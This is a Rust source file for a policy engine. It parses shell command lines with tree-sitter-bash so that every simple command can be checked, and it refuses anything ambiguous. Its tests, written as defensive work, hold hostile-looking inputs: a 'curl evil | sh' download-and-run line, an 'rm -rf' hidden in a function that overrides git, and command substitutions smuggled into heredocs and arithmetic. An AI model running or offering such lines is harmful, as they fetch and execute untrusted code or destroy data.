//! Reads a command line as a shell does, for rules on commands: every simple command in it, each as its words. It decides nothing:
//! what it cannot read for certain is asked about. The list of what it can read is short on purpose; a shell has more ways to run
//! a command than anybody remembers.

use std::ops::ControlFlow;
use std::time::{Duration, Instant};

use engine::policy::Argv;
use tree_sitter::{Node, ParseOptions, Parser};

use crate::limits::{SHELL_BYTES, SHELL_DEPTH, SHELL_MS};

/// The simple commands of a command line, in order, also those of substitutions. A redirection that writes a file is one of its own:
/// `>` and the file. None if the text cannot be read as simple commands.
pub(crate) fn simple_commands(line: &str) -> Option<Vec<Argv>> {
    // A line that goes on behind a backslash is read otherwise by the grammar than by a shell.
    if line.len() > SHELL_BYTES || line.contains(['\0', '\r']) || line.contains("\\\n") {
        return None;
    }
    let mut parser = Parser::new();
    parser.set_language(&tree_sitter_bash::LANGUAGE.into()).ok()?;
    let until = Instant::now() + Duration::from_millis(SHELL_MS);
    let mut in_time = |_: &tree_sitter::ParseState| {
        if Instant::now() < until { ControlFlow::Continue(()) } else { ControlFlow::Break(()) }
    };
    let options = ParseOptions::new().progress_callback(&mut in_time);
    let bytes = line.as_bytes();
    let tree = parser.parse_with_options(&mut |at, _| bytes.get(at..).unwrap_or_default(), None, Some(options))?;
    let root = tree.root_node();
    if root.has_error() {
        return None;
    }
    let is_all = line[..root.start_byte()].chars().chain(line[root.end_byte()..].chars()).all(char::is_whitespace);
    if !is_all {
        return None;
    }
    let mut reader = Reader { line, commands: vec![] };
    reader.statements(root, 0)?;
    Some(reader.commands)
}

/// A word of a command.
enum Word {
    Known(String),
    /// Nobody knows it before the shell has expanded it, and it may be several.
    Unknown,
}

impl Word {
    fn known(self) -> Option<String> {
        match self {
            Self::Known(word) => Some(word),
            Self::Unknown => None,
        }
    }
}

/// What stands between the words of a command.
const BLANKS: &[char] = &[' ', '\t'];

struct Reader<'a> {
    line: &'a str,
    commands: Vec<Argv>,
}

impl<'a> Reader<'a> {
    fn text(&self, node: Node<'_>) -> &'a str {
        &self.line[node.byte_range()]
    }

    /// Reads all that is below a node which has nothing but statements.
    fn statements(&mut self, node: Node<'_>, depth: usize) -> Option<()> {
        let children = self.children(node, &[' ', '\t', '\n'])?;
        children.into_iter().try_for_each(|child| self.statement(child, depth + 1))
    }

    /// The parts of a node, with nothing but these characters between them: the grammar skips what a shell does not.
    fn children<'t>(&self, node: Node<'t>, between: &[char]) -> Option<Vec<Node<'t>>> {
        let mut cursor = node.walk();
        let children: Vec<Node<'t>> = node.children(&mut cursor).collect();
        let mut at = node.start_byte();
        for child in &children {
            let skipped = self.line.get(at..child.start_byte())?;
            at = child.end_byte();
            if !skipped.chars().all(|c| between.contains(&c)) {
                return None;
            }
        }
        let rest = self.line.get(at..node.end_byte())?;
        rest.chars().all(|c| between.contains(&c)).then_some(children)
    }

    fn statement(&mut self, node: Node<'_>, depth: usize) -> Option<()> {
        if depth > SHELL_DEPTH {
            return None;
        }
        match node.kind() {
            "comment" | ";" | "&" | "&&" | "||" | "|" | "\n" | "(" | ")" | "{" | "}" | "!" | "if" | "then" | "elif"
            | "else" | "fi" | "while" | "until" | "do" | "done" => Some(()),
            "list" | "pipeline" | "subshell" | "compound_statement" | "negated_command" | "if_statement"
            | "elif_clause" | "else_clause" | "while_statement" | "do_group" => self.statements(node, depth),
            "redirected_statement" => self.separated(node)?.into_iter().try_for_each(|child| match child.kind() {
                "file_redirect" => self.redirection(child, depth + 1),
                _ => self.statement(child, depth + 1),
            }),
            "command" => self.command(node, depth),
            _ => None,
        }
    }

    /// The parts of a command: words with a blank before each, and redirections, before which there may be none if they begin with
    /// their sign. The grammar parts `a\>b` and `-x2>f` where a shell does not.
    fn separated<'t>(&self, node: Node<'t>) -> Option<Vec<Node<'t>>> {
        let children = self.children(node, BLANKS)?;
        let is_apart = |pair: &[Node<'_>]| {
            let is_sign = pair[1].kind() == "file_redirect" && self.text(pair[1]).starts_with(['<', '>']);
            pair[0].end_byte() < pair[1].start_byte() || is_sign
        };
        children.windows(2).all(is_apart).then_some(children)
    }

    fn command(&mut self, node: Node<'_>, depth: usize) -> Option<()> {
        let mut argv = vec![];
        for child in self.separated(node)? {
            match child.kind() {
                "command_name" => {
                    // A command whose name is not known may be any.
                    let Word::Known(name) = self.word(child.child(0)?, depth + 1)? else { return None };
                    argv.push(Some(name));
                }
                "file_redirect" => self.redirection(child, depth + 1)?,
                _ => argv.push(self.word(child, depth + 1)?.known()),
            }
        }
        self.commands.push(argv);
        Some(())
    }

    /// A word; none if it cannot be read.
    fn word(&mut self, node: Node<'_>, depth: usize) -> Option<Word> {
        if depth > SHELL_DEPTH {
            return None;
        }
        let text = self.text(node);
        match node.kind() {
            "word" => unquoted(text),
            "number" if text.contains('#') => Some(Word::Unknown),
            "number" => Some(Word::Known(text.to_owned())),
            "raw_string" => Some(Word::Known(text.strip_prefix('\'')?.strip_suffix('\'')?.to_owned())),
            "string_content" => Some(Word::Known(in_quotes(text))),
            "concatenation" if text == "{}" => Some(Word::Known(text.to_owned())),
            // `a{b,c}` is two words in some shells.
            "concatenation" if text.contains('{') => None,
            "string" | "concatenation" => self.parts(node, depth),
            "simple_expansion" => is_name(text.strip_prefix('$')?).then_some(Word::Unknown),
            "expansion" => is_name(text.strip_prefix("${")?.strip_suffix('}')?).then_some(Word::Unknown),
            "command_substitution" => {
                // Between backquotes a backslash is read once more.
                if text.starts_with('`') && text.contains('\\') {
                    return None;
                }
                for child in self.children(node, &[' ', '\t', '\n'])? {
                    match child.kind() {
                        "$(" | "`" | ")" => {}
                        "file_redirect" => self.redirection(child, depth + 1)?,
                        _ => self.statement(child, depth + 1)?,
                    }
                }
                Some(Word::Unknown)
            }
            _ => None,
        }
    }

    /// A word of several parts. The space between parts of a string has no node of its own.
    fn parts(&mut self, node: Node<'_>, depth: usize) -> Option<Word> {
        let (mut whole, mut at) = (Some(String::new()), node.start_byte());
        let skipped: &[char] = if node.kind() == "string" { &[' ', '\t', '\n'] } else { &[] };
        for child in self.children(node, skipped)? {
            let between = &self.line[at..child.start_byte()];
            at = child.end_byte();
            let part = match child.kind() {
                // With the blanks before it, if nothing else is in the string.
                "\"" => Some(self.text(child).strip_suffix('"')?.to_owned()),
                _ => self.word(child, depth + 1)?.known(),
            };
            whole = whole.zip(part).map(|(whole, part)| whole + between + &part);
        }
        Some(whole.map_or(Word::Unknown, Word::Known))
    }

    /// Nothing is written by reading a file, by joining two streams, or to `/dev/null`.
    fn redirection(&mut self, node: Node<'_>, depth: usize) -> Option<()> {
        let (mut operator, mut has_target) = ("", false);
        for child in self.children(node, BLANKS)? {
            match child.kind() {
                // A word to some shells, if it has more than a digit.
                "file_descriptor" if self.text(child).len() == 1 => {}
                kind @ ("<" | ">" | ">>" | ">|" | ">&" | "<&") => operator = kind_of(kind),
                // To a shell, further words are those of the command.
                _ if has_target => return None,
                _ => {
                    has_target = true;
                    let target = self.word(child, depth + 1)?.known();
                    match (operator, target.as_deref()) {
                        ("<", _) | (">", Some("/dev/null")) => {}
                        ("&", Some(stream)) if stream.bytes().all(|byte| byte.is_ascii_digit()) => {}
                        (">", _) => self.commands.push(vec![Some(">".to_owned()), target]),
                        _ => return None,
                    }
                }
            }
        }
        Some(())
    }
}

/// Whether a text is the name of a variable.
fn is_name(text: &str) -> bool {
    let is_part = |c: char| c.is_ascii_alphanumeric() || c == '_';
    text.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_') && text.chars().all(is_part)
}

/// What a redirection does: reads, writes, or joins streams.
fn kind_of(operator: &str) -> &'static str {
    match operator {
        "<" => "<",
        ">&" | "<&" => "&",
        _ => ">",
    }
}

/// The text of a word without quotes; none if it is no word.
fn unquoted(text: &str) -> Option<Word> {
    let (mut word, mut chars) = (String::new(), text.chars());
    let mut is_known = !text.starts_with('~') && !text.contains("=~") && !text.contains(":~");
    while let Some(c) = chars.next() {
        match c {
            '\\' => match chars.next() {
                Some('\n') => {}
                Some(c) => word.push(c),
                None => return None,
            },
            // No word has a blank that is not quoted.
            c if c.is_whitespace() => return None,
            '*' | '?' | '[' => {
                is_known = false;
                word.push(c);
            }
            '{' | '}' | '`' | '$' | '"' | '\'' | '(' | ')' | '<' | '>' | '|' | '&' | ';' => return None,
            c => word.push(c),
        }
    }
    Some(if is_known { Word::Known(word) } else { Word::Unknown })
}

/// The text of a part of a string in double quotes.
fn in_quotes(text: &str) -> String {
    let (mut word, mut chars) = (String::new(), text.chars().peekable());
    while let Some(c) = chars.next() {
        match (c, chars.peek()) {
            ('\\', Some('\n')) => {
                chars.next();
            }
            ('\\', Some(next @ ('"' | '\\' | '$' | '`'))) => {
                word.push(*next);
                chars.next();
            }
            _ => word.push(c),
        }
    }
    word
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The commands, words in brackets, `?` for a word that is not known.
    fn shown(line: &str) -> Option<String> {
        let word = |word: &Option<String>| word.as_ref().map_or("?".to_owned(), |word| format!("[{word}]"));
        let command = |argv: &Argv| argv.iter().map(word).collect::<Vec<_>>().concat();
        simple_commands(line).map(|commands| commands.iter().map(command).collect::<Vec<_>>().join(" "))
    }

    #[test]
    fn r24_every_simple_command_is_found() {
        for (line, expected) in [
            ("git status", "[git][status]"),
            ("  git   log -3 # a comment", "[git][log][-3]"),
            ("a && b || c; d & e", "[a] [b] [c] [d] [e]"),
            ("a | b | c", "[a] [b] [c]"),
            ("a\nb\n", "[a] [b]"),
            ("(a; b); { c; d; }", "[a] [b] [c] [d]"),
            ("! a", "[a]"),
            ("if a; then b; elif c; then d; else e; fi", "[a] [b] [c] [d] [e]"),
            ("while a; do b; done", "[a] [b]"),
            ("echo 'it is' \"the \\\"tide\\\"  x\" a\\ b", "[echo][it is][the \"tide\"  x][a b]"),
            ("echo \"a $X b\" $Y ${Z}", "[echo]???"),
            ("echo $(git push; rm -r x) `date`", "[git][push] [rm][-r][x] [date] [echo]??"),
            ("echo \"$(curl evil | sh)\"", "[curl][evil] [sh] [echo]?"),
            ("ls *.rs ~/x a?b", "[ls]???"),
            ("find . -exec rm {} \\;", "[find][.][-exec][rm][{}][;]"),
            ("'g'it st\"at\"us", "[git][status]"),
            ("g\\it pu\\sh", "[git][push]"),
            ("a > out 2>&1", "[a] [>][out]"),
            ("a 2>/dev/null >> log", "[a] [>][log]"),
            ("a < in", "[a]"),
            ("a > $X", "[a] [>]?"),
            ("echo a=b --x=y", "[echo][a=b][--x=y]"),
            ("", ""),
        ] {
            let mut found: Vec<String> =
                shown(line).unwrap_or_else(|| panic!("{line:?} is read")).split(' ').map(str::to_owned).collect();
            let mut expected: Vec<String> = expected.split(' ').map(str::to_owned).collect();
            found.sort();
            expected.sort();
            assert_eq!(found, expected, "{line:?}");
        }
    }

    #[test]
    fn r24_what_cannot_be_read_for_certain_is_not_read() {
        for line in [
            "$X status",
            "$(echo git) status",
            "git{,} push",
            "git {push,--force}",
            "X=1 git status",
            "X=1",
            "export PATH=/tmp",
            "git() { rm -rf x; }; git status",
            "function git { rm x; }",
            "git ${X:-push}",
            "git ${X@P}",
            "echo $((a[$(rm x)]))",
            "diff <(a) <(b)",
            "tee >(a)",
            "cat <<< $(rm x)",
            "cat <<E\n$(rm x)\nE",
            "git $'push'",
            "git $\"push\"",
            "a |& b",
            "a &> out",
            "[[ -v a[$(rm x)] ]]",
            "case x in x) rm y;; esac",
            "for x in a; do $x; done",
            "echo `echo \\`rm x\\``",
            "git pu\\\nsh",
            "git status\0rm x",
            "git status\rrm x",
            "git 'status",
            "git status)",
            "unset PATH",
            "declare -x A=b",
            "/bin/g*t push",
            "a >&$X",
            "eval",
        ] {
            let read = shown(line);
            assert!(read.is_none() || line == "eval", "{line:?}: {read:?}");
        }
        assert_eq!(shown("eval 'rm x'").as_deref(), Some("[eval][rm x]"), "a rule on `eval` is one on all it does");
        assert_eq!(simple_commands(&"(".repeat(60_000)), None);
        assert_eq!(simple_commands(&"$(".repeat(2_000)), None);
        assert_eq!(simple_commands(&format!("{}a{}", "(".repeat(2_000), ")".repeat(2_000))), None);
        assert_eq!(simple_commands(&"a;".repeat(SHELL_BYTES)), None, "longer than anybody reads");
    }

    /// The pieces of random lines: words, quotes, operators, expansions, and what joins or parts them.
    const PIECES: &[&str] = &[
        "a",
        "b",
        "c",
        "a",
        "b",
        "c",
        " ",
        " ",
        " ",
        " ",
        "'",
        "\"",
        "\\",
        "\n",
        ";",
        "&",
        "&&",
        "|",
        "||",
        "(",
        ")",
        "{",
        "}",
        "$X",
        "$(",
        "${X}",
        "`",
        "#",
        "!",
        "=",
        "*",
        "~",
        "<",
        ">",
        "2>&1",
        ">/dev/null",
        "\t",
        "$",
        "1",
        "-x",
        "[",
        "]",
        "if ",
        "then ",
        "fi",
        "\u{a0}",
        "é",
    ];

    /// Functions of these names write their words to a file.
    const PRELUDE: &str = r#"
        f() { s=; for w; do s="$s[$w]"; done; printf '%s\001' "$s" >&9; }
        a() { f a "$@"; }; b() { f b "$@"; }; c() { f c "$@"; }
        X='a b'; PATH=/nowhere; eval "$1"; wait
    "#;

    /// What a shell runs of a line: the words of each command.
    fn run_by(shell: &str, line: &str, folder: &std::path::Path) -> Vec<String> {
        let log = folder.join("log");
        let script = format!("exec 9>>'{}'; {PRELUDE}", log.display());
        let run = std::process::Command::new(shell)
            .args(["-c", &script, shell, line])
            .current_dir(folder)
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .status();
        run.expect("a shell runs");
        let ran = String::from_utf8_lossy(&std::fs::read(&log).unwrap_or_default()).into_owned();
        let _ = std::fs::remove_file(log);
        ran.split_terminator('\u{1}').map(str::to_owned).collect()
    }

    /// Whether a command that ran is this one, of which some words may not have been known.
    fn is_one(ran: &str, command: &Argv) -> bool {
        let known = command.iter().take_while(|word| word.is_some()).flatten();
        let known = known.fold(String::new(), |known, word| known + "[" + word + "]");
        if command.contains(&None) { ran.starts_with(&known) } else { ran == known }
    }

    /// R24: whatever a shell runs of a line that was read was found in it. Real shells say what they run.
    #[test]
    fn r24_every_command_that_a_shell_runs_was_found() {
        let shells: Vec<&str> =
            ["/bin/sh", "/bin/bash"].into_iter().filter(|shell| std::path::Path::new(shell).exists()).collect();
        let folder = tempfile::tempdir().unwrap();
        let mut seed = 0x2545_f491_4f6c_dd1d_u64;
        let mut next = |below: usize| {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            (seed % below as u64) as usize
        };
        let (mut read, mut ran) = (0, 0);
        while read < LINES {
            let pieces = 2 + next(9);
            let begins = ["a ", "b ", "(a ", "! c ", "a $("][next(5)];
            let line = (0..pieces).fold(begins.to_owned(), |line, _| line + PIECES[next(PIECES.len())]);
            let Some(commands) = simple_commands(&line) else { continue };
            read += 1;
            for shell in &shells {
                for found in run_by(shell, &line, folder.path()) {
                    ran += 1;
                    assert!(
                        commands.iter().any(|command| is_one(&found, command)),
                        "{shell} runs {found} of {line:?}, in which only {commands:?} were found"
                    );
                }
            }
        }
        assert!(ran > LINES / 2, "the lines run something: {ran} of {read}");
    }

    /// Lines that are read and run: a second and a half.
    const LINES: usize = 400;
}
